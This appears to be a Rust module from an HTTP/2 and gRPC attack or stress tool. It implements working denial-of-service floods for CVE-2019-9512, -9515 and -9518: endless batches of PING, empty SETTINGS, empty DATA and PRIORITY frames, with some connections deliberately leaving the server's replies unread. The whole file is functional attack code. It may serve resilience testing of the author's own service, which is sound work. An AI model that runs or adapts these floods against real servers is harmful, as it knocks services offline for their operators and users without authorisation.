//! Frames that are cheap to send and ask for work or an answer (CVE-2019-9512, -9515, -9518).

use std::io;

use tokio::io::AsyncWriteExt;

use super::frames::{DATA, PING, PRIORITY, SETTINGS, frame, stream};
use super::grpc;
use super::http2::{Reading, Writing, begin};
use super::plan::Plan;
use super::wire::Wire;

/// Frames in one write.
const TOGETHER: usize = 500;

pub(super) async fn pings(wire: Wire, plan: Plan, number: usize) -> io::Result<()> {
    let (reading, writing) = begin(wire, &plan, &[]).await?;
    let ping = frame(PING, 0, 0, b"hostile!");
    answered_flood(reading, writing, &ping, &plan, number).await
}

pub(super) async fn settings(wire: Wire, plan: Plan, number: usize) -> io::Result<()> {
    let (reading, writing) = begin(wire, &plan, &[]).await?;
    let nothing = frame(SETTINGS, 0, 0, &[]);
    answered_flood(reading, writing, &nothing, &plan, number).await
}

pub(super) async fn empty_data(wire: Wire, plan: Plan, _: usize) -> io::Result<()> {
    let (reading, mut writing) = begin(wire, &plan, &[]).await?;
    let open = grpc::call(stream(0), "/dkv.v1.Session/Open", &[]);
    writing.write_all(&open).await?;
    let nothing = frame(DATA, 0, stream(0), &[]);
    reading.while_doing(flood(writing, &nothing, &plan)).await
}

pub(super) async fn priorities(wire: Wire, plan: Plan, _: usize) -> io::Result<()> {
    let (reading, writing) = begin(wire, &plan, &[]).await?;
    // Stream 3 depends on the connection, with a weight of 1.
    let priority = frame(PRIORITY, 0, stream(1), &[0, 0, 0, 0, 0]);
    reading.while_doing(flood(writing, &priority, &plan)).await
}

/// Every second connection leaves the answers to the target.
async fn answered_flood(
    reading: Reading,
    writing: Writing,
    frame: &[u8],
    plan: &Plan,
    number: usize,
) -> io::Result<()> {
    match number % 2 {
        0 => reading.while_doing(flood(writing, frame, plan)).await,
        _ => flood(writing, frame, plan).await,
    }
}

async fn flood(mut writing: Writing, frame: &[u8], plan: &Plan) -> io::Result<()> {
    let many = frame.repeat(TOGETHER);
    loop {
        writing.write_all(&many).await?;
        plan.count_stroke();
        tokio::task::yield_now().await;
    }
}
